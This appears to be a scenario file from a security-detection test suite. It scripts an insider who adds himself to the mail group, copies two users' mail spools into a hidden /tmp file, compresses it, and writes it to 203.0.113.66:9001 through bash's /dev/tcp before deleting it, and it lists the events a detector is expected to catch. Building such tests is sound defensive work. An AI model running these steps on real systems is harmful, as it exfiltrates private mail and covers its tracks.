# One program does everything, and the shell has the connection.
title="Two spools copied with dd, packed by busybox, written to /dev/tcp"
what="The intern, who is in the group mail, copies the spools of clerk and buyer into one hidden file below /tmp with dd, packs it with busybox gzip and lets the shell write it to 203.0.113.66 port 9001; then the file is removed."
host=mx1.example.org user=intern daemons="cron sshd" store=mbox audit_rules=audit-wide.rules

setup() { sed -i 's/^mail:x:8:.*/mail:x:8:intern/' /etc/group; }
act() {
  small_talk 6
  for n in 1 2; do mail_in --from "office$n@example.net" --to clerk@example.org --subject "Plan $n"; done
  wait_mail clerk 2
  ssh_as intern <<'L'
cd /tmp
dd if=/var/mail/clerk of=.s bs=64k status=none; dd if=/var/mail/buyer bs=64k status=none >> .s
busybox gzip .s
%sleep 2
cat .s.gz > /dev/tcp/203.0.113.66/9001
rm .s.gz
L
  small_talk 1
}
truth() {
  exec_step copy 'dd if=/var/mail/clerk of=.s' 'a spool is copied'
  exec_step pack 'busybox gzip .s' 'both are packed'
  net_step connect 'bash 203.0.113.66:9001' 'the shell connects'
  exec_step send 'cat .s.gz' 'and the archive is written to the connection'
}
